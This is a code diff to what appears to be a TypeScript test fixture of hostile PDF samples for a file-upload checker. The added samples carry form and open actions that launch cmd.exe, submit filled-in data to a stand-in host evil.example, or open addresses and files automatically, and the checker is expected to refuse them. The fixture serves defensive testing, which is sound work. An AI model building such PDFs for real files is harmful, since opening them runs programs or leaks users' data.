@@ -59,6 +59,28 @@ const refused: Record<string, Buffer> = {
   ),
 }
 
+const aField = '<< /FT /Btn /T (Enviar) /Kids [] >>'
+const form = (entries: string, packed?: string) =>
+  samplePdf({ catalogue: `/AcroForm << /Fields [${aField}] >> ${entries}`, ...(packed && { packed }) })
+const button = (act: string) => form(`/X << /Subtype /Widget /A << ${act} >> >>`)
+
+/** Forms that open, send or start something: refused. */
+const leaving: Record<string, Buffer> = {
+  'starts a program': button('/S /Launch /F (cmd.exe)'),
+  'sends what is filled in': button('/S /SubmitForm /F (https://evil.example/)'),
+  'takes data in': button('/S /ImportData /F (a.fdf)'),
+  'opens another file': button('/S /GoToR /F (a.pdf) /D [0 /Fit]'),
+  'opens a file within it': button('/S /GoToE /D [0 /Fit]'),
+  'starts a program after a jump': button('/S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >>'),
+  'opens an address when opened': form('/OpenAction << /S /URI /URI (https://evil.example/) >>'),
+  'opens an address when a page is shown': form('/AA << /O << /S /URI /URI (https://evil.example/) >> >>'),
+  'opens an address that stands elsewhere': Buffer.concat([
+    form('/OpenAction 12 0 R'),
+    Buffer.from('\n12 0 obj\n<< /S /URI /URI (https://evil.example/) >>\nendobj\n%%EOF\n'),
+  ]),
+  'packs its action away': form('', '<< /S /SubmitForm /F (https://evil.example/) >>'),
+}
+
 /** Files that may hold a script or act on their own: saved and never shown. */
 const savedOnly: Record<string, Buffer> = {
   'packs its script twice': packed(`${objectStream} /Filter [/ASCIIHexDecode /FlateDecode]`, (objects) =>
@@ -102,6 +124,8 @@ const savedOnly: Record<string, Buffer> = {
 }
 
 const shown: Record<string, Buffer> = {
+  'is a form with a link': button('/S /URI /URI (https://exemplo.com.br)'),
+  'is a form that jumps to a page when opened': form('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'),
   'opens a page when opened': openAction('/S /URI /URI (javascript:alert\\(1\\))'),
   'has a link with signs that disguise elsewhere': samplePdf({
     catalogue: '/A << /S /URI /URI (https://exemplo.com.br/a/JS#4aS/S#53) >>',
@@ -126,6 +150,7 @@ function named(
 /** PDFs that would run a script, act on their own, or look as if (T4, T36). */
 export const scriptedPdfs: readonly HostileFile[] = [
   ...named(refused, { verdict: fileRefusals.script }),
+  ...named(leaving, { verdict: fileRefusals.opens }),
   ...named(savedOnly, { verdict: 'application/pdf', isSavedOnly: true }),
   ...named(shown, { verdict: 'application/pdf' }),
 ]
